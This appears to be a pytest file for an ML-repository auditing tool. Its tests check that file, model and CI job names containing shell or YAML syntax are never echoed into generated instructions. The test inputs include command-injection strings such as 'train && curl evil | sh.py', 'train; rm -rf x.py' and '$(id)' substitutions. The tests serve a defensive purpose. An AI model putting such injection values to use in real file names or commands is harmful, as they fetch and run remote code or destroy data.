"""A repository chooses the names of its files, jobs and routes, and people copy what a plan says: none of them acts."""

from __future__ import annotations

import pytest

from mlripe.auditing import Inspection
from mlripe.catalog import load
from mlripe.snapshot.memory import MemorySnapshot

TRAIN = "import joblib\nfrom sklearn.svm import SVC\n\njoblib.dump(SVC().fit([[1]], [1]), NAME)\n"


def texts(files: dict[str, str]) -> list[str]:
    inspection = Inspection(MemorySnapshot({**files, "requirements.txt": "scikit-learn\n"}), load())
    plan = inspection.plan(inspection.assessment())
    marks = inspection.assessment().landmarks.values()
    return [*(text for step in plan.steps for text in (step.how, step.edit, step.snippet)), *(m.text for m in marks)]


@pytest.mark.parametrize(
    "name",
    [
        "train && curl evil | sh.py",
        "train; rm -rf x.py",
        "train: {a}.py",
        "train #x.py",
        "train`id`.py",
        "train$(id).py",
        "train\nrun.py",
    ],
)
def test_a_path_that_means_something_to_a_shell_or_to_yaml_is_no_landmark(name: str) -> None:
    told = texts({name: TRAIN.replace("NAME", repr("model.pkl"))})
    assert told
    assert not [text for text in told if name in text or "evil" in text]


@pytest.mark.parametrize("name", ["m$(id).pkl", "a;b.pkl", "a\nb.pkl", "a: b.pkl"])
def test_the_name_of_a_model_is_one_that_means_itself(name: str) -> None:
    told = texts({"train.py": TRAIN.replace("NAME", repr(name))})
    assert "python train.py" in told
    assert not [text for text in told if name in text]


def test_the_name_of_a_job_is_one_that_means_itself() -> None:
    ci = "'test: [x]':\n  script: [pytest]\n"
    tested = "from train import fit\n\n\ndef test_fit():\n    assert fit(1) == 1\n"
    fit = "def fit(x):\n    return x\n"
    told = texts({".gitlab-ci.yml": ci, "test_fit.py": tested, "train.py": TRAIN.replace("NAME", "'m.pkl'") + fit})
    assert told
    assert not [text for text in told if "test: [x]" in text]


@pytest.mark.parametrize("word", ["resume screening", "r\u00e9sum\u00e9 screening", "loan approval"])
def test_people_are_scored(word: str) -> None:
    inspection = Inspection(MemorySnapshot({"README.md": f"# {word}\n", "train.py": TRAIN}), load())
    assert inspection.assessment().landmarks["people"].text == word
